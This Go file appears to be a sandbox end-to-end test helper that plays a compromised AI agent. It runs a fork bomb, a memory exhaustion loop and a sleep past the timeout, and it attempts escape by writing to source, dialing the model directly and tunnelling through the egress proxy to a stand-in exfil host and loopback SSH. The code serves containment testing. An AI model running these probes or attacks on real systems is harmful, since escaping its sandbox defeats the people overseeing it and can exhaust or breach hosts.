// Command hostile stands in for a compromised agent in the sandbox e2e
// test: mounted as the aicr binary, it tries to escape and writes what
// each attempt came to into its agent dir, for the test to check. The
// change's description picks a resource attack instead: "hostile:fork-bomb"
// starts children until the pids limit refuses one, "hostile:allocate"
// touches memory until the memory limit kills it, "hostile:sleep" outlives
// the pass timeout.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"time"
)

type report struct {
	WriteSrc       string   `json:"write_src"`
	DialModel      string   `json:"dial_model"`
	ProxyExfil     string   `json:"proxy_exfil"`
	ProxyLoopback  string   `json:"proxy_loopback"`
	Env            []string `json:"env"`
	ModelReachable bool     `json:"model_reachable_directly"`
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func connect(socket, addr string) error {
	c, err := net.DialTimeout("unix", socket, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", addr, addr)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("proxy answered %s", resp.Status)
	}
	return nil
}

func main() {
	if len(os.Args) > 1 && os.Args[1] == "hostile-child" {
		time.Sleep(time.Hour)
		return
	}
	var change struct {
		Description string `json:"description"`
	}
	if b, err := os.ReadFile("/workspace/change.json"); err == nil {
		json.Unmarshal(b, &change)
	}
	switch {
	case strings.Contains(change.Description, "hostile:fork-bomb"):
		forkBomb()
	case strings.Contains(change.Description, "hostile:allocate"):
		allocate()
	case strings.Contains(change.Description, "hostile:sleep"):
		fmt.Fprintln(os.Stderr, "hostile: sleeping past the timeout")
		time.Sleep(time.Hour)
	}
	escape()
}

// forkBomb starts sleeping copies of itself until one is refused, and
// says how many it got.
func forkBomb() {
	for i := 0; i < 100000; i++ {
		if err := exec.Command(os.Args[0], "hostile-child").Start(); err != nil {
			msg := fmt.Sprintf("hostile: fork refused after %d children: %v", i, err)
			os.WriteFile("/workspace/agent/hostile-fork.json", []byte(fmt.Sprintf(`{"children": %d}`, i)), 0o644)
			fmt.Fprintln(os.Stderr, msg)
			os.Exit(4)
		}
	}
	fmt.Fprintln(os.Stderr, "hostile: 100000 children started: the pids limit did not hold")
	os.Exit(5)
}

// allocate keeps touching fresh MiB until something stops it; at 1 GiB
// (far past the test's limit) it gives up rather than eat the host.
func allocate() {
	var keep [][]byte
	for i := 0; i < 1024; i++ {
		b := make([]byte, 1<<20)
		for j := 0; j < len(b); j += 4096 {
			b[j] = 1
		}
		keep = append(keep, b)
		if i%256 == 0 {
			fmt.Fprintf(os.Stderr, "hostile: %d MiB resident\n", i)
		}
	}
	fmt.Fprintln(os.Stderr, "hostile: 1 GiB resident: the memory limit did not hold")
	os.Exit(6)
}

func escape() {
	var r report
	r.WriteSrc = errText(os.WriteFile("/workspace/src/pwned", []byte("x"), 0o644))

	var pf struct {
		Agent struct {
			LLM struct{ BaseURL string }
		}
		EgressSocket string `json:"egress_socket"`
	}
	if b, err := os.ReadFile("/workspace/agent/pass.json"); err == nil {
		json.Unmarshal(b, &pf)
	}
	if u, err := url.Parse(pf.Agent.LLM.BaseURL); err == nil && u.Host != "" {
		c, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
		if c != nil {
			c.Close()
		}
		r.DialModel = errText(err)
	} else {
		r.DialModel = "no base_url in pass.json"
	}
	r.ProxyExfil = errText(connect(pf.EgressSocket, "exfil.example.net:443"))
	r.ProxyLoopback = errText(connect(pf.EgressSocket, "127.0.0.1:22"))
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		if name == "AICR_LLM_API_KEY" {
			// The agent's own key is meant to be here; keep it out of the file.
			kv = name + "=<present>"
		}
		r.Env = append(r.Env, kv)
	}
	b, _ := json.MarshalIndent(r, "", "  ")
	if err := os.WriteFile("/workspace/agent/hostile.json", b, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
}
